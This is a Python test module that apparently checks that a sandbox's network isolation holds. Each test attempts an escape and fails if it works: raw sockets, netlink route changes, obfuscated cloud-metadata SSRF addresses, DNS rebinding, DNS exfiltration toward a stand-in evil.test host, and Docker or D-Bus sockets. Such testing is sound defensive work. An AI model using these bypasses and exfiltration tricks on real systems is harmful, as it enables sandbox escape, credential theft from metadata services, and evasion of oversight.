"""Ways out of the network, other than through the vault."""

# The tools bring the standard library along.
from tools import *


@many('network', [
    ('raw_icmp', 'a raw ICMP socket', socket.AF_INET, socket.SOCK_RAW, 1),
    ('raw_tcp', 'a raw TCP socket', socket.AF_INET, socket.SOCK_RAW, 6),
    ('raw_ip', 'a raw IP socket that writes its own headers', socket.AF_INET, socket.SOCK_RAW, 255),
    ('raw_ipv6', 'a raw IPv6 socket', socket.AF_INET6, socket.SOCK_RAW, 58),
    ('packet', 'AF_PACKET, frames of the wire', 17, socket.SOCK_RAW, socket.htons(3)),
    ('packet_dgram', 'AF_PACKET, cooked', 17, socket.SOCK_DGRAM, socket.htons(3)),
    ('vsock', 'AF_VSOCK to the hypervisor', 40, socket.SOCK_STREAM, 0),
    ('alg', 'AF_ALG, the kernel\'s ciphers', 38, socket.SOCK_SEQPACKET, 0),
    ('netfilter', 'netlink to netfilter, to lift the redirection', 16, socket.SOCK_RAW, 12),
    ('xfrm', 'netlink to IPsec', 16, socket.SOCK_RAW, 6),
    ('netlink_audit', 'netlink to the audit log', 16, socket.SOCK_RAW, 9),
    ('uevent', 'netlink for the kernel\'s device events', 16, socket.SOCK_DGRAM, 15),
    ('bluetooth', 'AF_BLUETOOTH', 31, socket.SOCK_RAW, 1),
    ('tipc', 'AF_TIPC', 30, socket.SOCK_SEQPACKET, 0),
    ('xdp', 'AF_XDP', 44, socket.SOCK_RAW, 0),
    ('sctp', 'SCTP, which no redirection sees', socket.AF_INET, socket.SOCK_STREAM, 132),
    ('dccp', 'DCCP, a rarely used transport', socket.AF_INET, 6, 33),
    ('udplite', 'UDP-Lite over IPv6', socket.AF_INET6, socket.SOCK_DGRAM, 136),
])
def odd_socket(family, kind, protocol):
    return refused(call('socket', family, kind, protocol), REFUSED | {errno.EAFNOSUPPORT, errno.EPROTONOSUPPORT, errno.ESOCKTNOSUPPORT})


def netlink(kind, payload, flags=0x5):
    """Sends a route request and returns the kernel's answer: an error number."""
    sock = socket.socket(16, socket.SOCK_RAW, 0)
    sock.sendall(struct.pack('=IHHII', 16 + len(payload), kind, flags, 1, 0) + payload)
    sock.settimeout(PATIENCE)
    return struct.unpack_from('=i', sock.recv(4096), 16)[0]


@many('network', [
    ('route_add', 'a new default route', 24, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HHI', 8, 4, 1), 0x605),
    ('route_delete', 'remove the route that makes every address local', 25, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 255, 0, 0, 2, 0), 5),
    ('link_down', 'take the loopback interface down', 16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 1), 5),
    ('link_add', 'make a veth pair toward the machine', 16, struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0)
        + struct.pack('=HH', 16, 18 | 0x8000) + struct.pack('=HH', 9, 1) + b'veth\0\0\0\0', 0x605),
    ('link_move', 'move the interface to the machine\'s network', 16, struct.pack('=BBHiII', 0, 0, 0, 1, 0, 0) + struct.pack('=HHI', 8, 19, 1), 5),
    ('address_add', 'a new address', 20, struct.pack('=BBBBI', 2, 24, 0, 0, 1) + struct.pack('=HH', 8, 2) + bytes([10, 9, 8, 7]), 0x605),
    ('rule_add', 'a routing rule', 32, struct.pack('=BBBBBBBBI', 2, 0, 0, 0, 254, 0, 0, 1, 0), 0x605),
])
def route_change(kind, payload, flags):
    return refused(netlink(kind, payload, flags))


@attempt('network', 'look for any interface but loopback')
def interfaces():
    names = [name for _, name in socket.if_nameindex()]
    if names != ['lo']:
        raise Breach('there are %s' % names)
    return 'only lo'


@attempt('network', 'a loopback service of the machine, at 127.0.0.1')
def loopback_of_the_machine():
    return denied(lambda: socket.create_connection(('127.0.0.1', WORLD['host_tcp']), PATIENCE), {errno.ECONNREFUSED})


@attempt('network', 'a loopback service of the machine, at ::1')
def loopback_of_the_machine_v6():
    return denied(lambda: socket.create_connection(('::1', WORLD['host_tcp']), PATIENCE), {errno.ECONNREFUSED})


@attempt('network', 'the vault\'s own listener by its loopback address, with a bound host')
def listener_directly():
    answer = get('/listener', bearer(), host='127.0.0.1', port=1, tls=False, authority='%s:%d' % (BOUND['name'], BOUND['plain']))
    return blocked(answer, 'misdirected', 'private_address', 'misdirected_stub')


@many('network', [
    ('private_0', 'the machine by 0.0.0.0', '0.0.0.0'), ('private_10', 'a private network', '10.0.0.1'),
    ('private_172', 'a container bridge', '172.17.0.1'), ('private_192', 'a home router', '192.168.1.1'),
    ('private_link', 'a link-local address', '169.254.1.1'), ('private_shared', 'carrier-grade NAT', '100.64.0.1'),
    ('private_v6', 'a unique local address', 'fd00::1'), ('private_v6_link', 'the mapped loopback', '::ffff:127.0.0.1'),
    ('private_6to4', 'a private address behind 6to4', '2002:7f00:1::1'), ('private_nat64', 'a private address behind NAT64', '64:ff9b::7f00:1'),
    ('broadcast', 'everybody', '255.255.255.255'), ('multicast', 'a multicast group', '224.0.0.1'),
])
def private(address):
    authority = '[%s]:%d' % (address, WORLD['host_tcp']) if ':' in address else '%s:%d' % (address, WORLD['host_tcp'])
    seen = []
    # Through the explicit proxy first: it takes any spelling; then as the kernel would connect.
    with proxy() as sock:
        answer = talk(('GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (authority, authority)).encode(), sock=sock)
    seen.append(blocked(answer, 'private_address', 'metadata', 'bad_request', 'unknown_address', 'denied'))
    if address not in ('0.0.0.0', '::ffff:127.0.0.1'):
        try:
            answer = get('/', host=address, port=WORLD['host_tcp'], tls=False, authority=authority)
            seen.append(blocked(answer, 'private_address', 'metadata', 'bad_request'))
        except OSError as problem:
            seen.append(errno.errorcode.get(problem.errno, str(problem)))
    return ', '.join(seen)


@many('network', [('metadata_%d' % number, 'the metadata service as %s' % spelling, spelling) for number, spelling in enumerate([
    '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '0xA9.0xFE.0xA9.0xFE', '169.254.43518', '169.254.169.254.',
    '[::ffff:169.254.169.254]', '[::ffff:a9fe:a9fe]', '[fd00:ec2::254]', 'metadata.google.internal', 'METADATA.google.INTERNAL.',
    '100.100.100.200', '\u2460\u2465\u2468.254.169.254', 'metadata.nip.test', '[64:ff9b::a9fe:a9fe]', '[::169.254.169.254]', '169.254.169.254%2f.evil.test',
])])
def metadata(spelling):
    raw = ('GET http://%s/latest/meta-data/ HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n' % (spelling, spelling)).encode()
    with proxy() as sock:
        answer = talk(raw, sock=sock)
    allowed = ['metadata', 'private_address', 'bad_request']
    if answer.status == 400 and not answer.blocked:
        return '400, not even parsed'
    if 'internal' in spelling.lower():
        # A name that only a cloud resolves.
        allowed.append('dns')
    return blocked(answer, *allowed)


@many('network', [(name.replace('.', '_'), 'a public name that leads to %s' % where, name) for name, where in [
    ('loopback.nip.test', 'loopback'), ('mapped.nip.test', 'mapped loopback'), ('ten.nip.test', 'a private network'), ('six.nip.test', '::1')]])
def name_to_private(name):
    return blocked(get('/', host=name, port=WORLD['host_tcp'], tls=False), 'private_address')


@attempt('network', 'rebinding: one name whose answers change while it is asked again and again')
def rebinding():
    addresses = {socket.gethostbyname('loopback.nip.test') for _ in range(20)}
    if len(addresses) != 1 or not next(iter(addresses)).startswith('198.1'):
        raise Breach('the name means %s' % addresses)
    verdicts = {get('/', host='loopback.nip.test', port=WORLD['host_tcp'], tls=False).blocked for _ in range(5)}
    if verdicts != {'private_address'}:
        raise Breach('verdicts: %s' % verdicts)
    return 'always the same fake address, always private_address'


def udp_silent(address, port, data, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        try:
            sock.connect((address, port))
            sock.send(data)
            heard = sock.recv(2000)
        except (ConnectionRefusedError, TimeoutError, PermissionError) as problem:
            return type(problem).__name__
        except OSError as problem:
            return errno.errorcode.get(problem.errno, str(problem))
    raise Breach('%d bytes came back' % len(heard))


@many('network', [
    ('udp_out', 'UDP to the internet', '192.0.2.1', 4000), ('udp_quic', 'QUIC', '192.0.2.1', 443), ('udp_ntp', 'NTP', '192.0.2.1', 123),
    ('udp_machine', 'a UDP service of the machine', '127.0.0.1', None), ('udp_machine_lan', 'the same by another address', '10.0.0.1', None)])
def udp(address, port):
    return udp_silent(address, port or WORLD['host_udp'], b'x' * 1200)


def question(name, kind=1, ident=7):
    labels = b''.join(bytes([len(label)]) + label for label in name.encode('latin-1').split(b'.'))
    return struct.pack('>HHHHHH', ident, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)


def ask_dns(server, query):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.sendto(query, (server, 53))
        return sock.recv(4096)


@attempt('network', 'DNS from a public resolver')
def dns_elsewhere():
    answer = ask_dns('8.8.8.8', question('example.com'))
    if answer[-4:-2] not in (b'\xc6\x12', b'\xc6\x13'):
        raise Breach('an answer that is not the vault\'s: %r' % answer)
    return 'the vault answered in its place, with a fake address'


@many('network', [('dns_' + name, 'DNS records of type %s, which could carry data' % name, number) for name, number in
                  [('txt', 16), ('aaaa', 28), ('https', 65), ('svcb', 64), ('mx', 15), ('ns', 2), ('any', 255), ('axfr', 252), ('null', 10), ('cname', 5)]])
def dns_kinds(kind):
    answer = ask_dns('10.0.0.53', question('payload.evil.test', kind))
    if struct.unpack('>H', answer[6:8])[0]:
        raise Breach('an answer with data: %r' % answer)
    return 'no data'


@attempt('network', 'exfiltration through long DNS names')
def dns_exfiltration():
    for number in range(500):
        answer = ask_dns('10.0.0.53', question('.'.join(['%04d' % number + 'a' * 59] * 3) + '.evil.test'))
        if answer[-4:-2] not in (b'\xc6\x12', b'\xc6\x13') and answer[3] & 15 == 0:
            raise Breach('not a fake address: %r' % answer)
    return '500 names answered from inside, nothing asked outside'


@attempt('network', 'broken DNS packets')
def dns_broken():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for packet in [b'', b'\0', b'\0' * 12, b'\0\1\1\0\0\1' + b'\0' * 6 + b'\xc0\x0c\0\1\0\1', question('x') + b'\xff' * 1400,
                   b'\0\1\1\0\xff\xff' + b'\0' * 6 + b'?' * 900, question('x')[:13] + b'\xff' * 300]:
        sock.sendto(packet, ('10.0.0.53', 53))
    if not ask_dns('10.0.0.53', question('evil.test')):
        raise Breach('the resolver is gone')
    return 'the resolver goes on'


@attempt('network', 'DNS over TCP to a public resolver')
def dns_tcp():
    query = question('example.com')
    return closed_unanswered(socket.create_connection(('8.8.8.8', 53), PATIENCE), struct.pack('>H', len(query)) + query)


@many('network', [
    ('tcp_not_http', 'a protocol that is neither HTTP nor TLS', b'SSH-2.0-hostile\r\n'),
    ('tcp_smtp', 'mail', b'EHLO evil\r\nMAIL FROM:<a@b>\r\n'), ('tcp_redis', 'redis', b'*1\r\n$4\r\nPING\r\n'),
    ('tcp_binary', 'a binary protocol', bytes(range(1, 200))), ('tcp_nul', 'zero bytes', b'\0' * 64),
    ('tcp_socks', 'SOCKS', b'\5\1\0'), ('tcp_http2_clear', 'a broken HTTP/2 preface', b'PRI * HTTP/2.0\r\n\r\nXX\r\n\r\nraw')])
def raw_tcp(data):
    sock = socket.create_connection((EVIL['name'], EVIL['raw']), PATIENCE)
    sock.settimeout(PATIENCE)
    try:
        sock.sendall(data)
        sock.shutdown(socket.SHUT_WR)
        heard = read_all(sock)
    except OSError as problem:
        return errno.errorcode.get(problem.errno, str(problem))
    if b'RAW-SERVICE' in heard:
        raise Breach('the service answered: %r' % heard[:100])
    return 'not carried (%d bytes of refusal)' % len(heard)


@attempt('network', 'another port of the machine that runs the model gateway')
def gateway_other_port():
    return blocked(get('/', host='gateway.lap.internal', port=WORLD['host_tcp'], tls=False), 'gateway_route', 'misdirected')


@attempt('network', 'an address of the fake range that stands for nothing')
def unknown_fake():
    sock = socket.create_connection(('198.19.250.250', 80), PATIENCE)
    return closed_unanswered(sock, b'GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n')


@attempt('network', 'an abstract socket of the machine')
def abstract_socket():
    sock = socket.socket(socket.AF_UNIX)
    return denied(lambda: sock.connect('\0' + WORLD['host_abstract']), {errno.ECONNREFUSED, errno.EPERM})


@attempt('network', 'a socket file of the machine, and those of its daemons')
def path_socket():
    seen = set()
    for path in [WORLD['host_socket'], WORLD['host_data'] + '/run/link.sock', '/run/docker.sock', '/var/run/docker.sock', '/run/dbus/system_bus_socket',
                 '/run/systemd/private', '/run/containerd/containerd.sock', '/tmp/.X11-unix/X0']:
        sock = socket.socket(socket.AF_UNIX)
        seen.add(denied(lambda: sock.connect(path), {errno.ENOENT, errno.EACCES, errno.ECONNREFUSED}))
    return ', '.join(sorted(seen))


@attempt('network', 'take the vault\'s ports before it')
def bind_low_ports():
    seen = set()
    for port in (1, 53, 80, 443):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        seen.add(denied(lambda: sock.bind(('0.0.0.0', port)), {errno.EACCES, errno.EADDRINUSE}))
    return ', '.join(sorted(seen))


@many('network', [('mark', 'mark packets past the redirection', 36, struct.pack('i', 1)), ('transparent', 'a transparent socket', None, None)])
def socket_options(option, value):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if option is None:
        return denied(lambda: sock.setsockopt(socket.SOL_IP, 19, 1))
    return denied(lambda: sock.setsockopt(socket.SOL_SOCKET, option, value))
